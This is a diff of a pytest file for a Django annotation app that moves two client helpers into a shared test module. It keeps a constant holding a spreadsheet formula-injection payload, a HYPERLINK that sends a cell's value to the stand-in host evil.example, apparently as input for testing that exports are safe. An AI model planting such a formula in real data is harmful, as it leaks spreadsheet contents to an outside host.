@@ -5,10 +5,10 @@ import io
 
 import pytest
 from django.core.cache import cache
-from rest_framework.test import APIClient
 
 from annotator.annotations import create_annotation
 from annotator.models import Claim
+from tests.http import body, logged_in
 
 HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -16,16 +16,6 @@ HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 @pytest.fixture(autouse=True)
 def _fresh_throttle_counters():
     cache.clear()
-
-
-def logged_in(user):
-    client = APIClient()
-    client.force_login(user)
-    return client
-
-
-def body(response) -> str:
-    return b"".join(response.streaming_content).decode("utf-8")
 
 
 @pytest.fixture
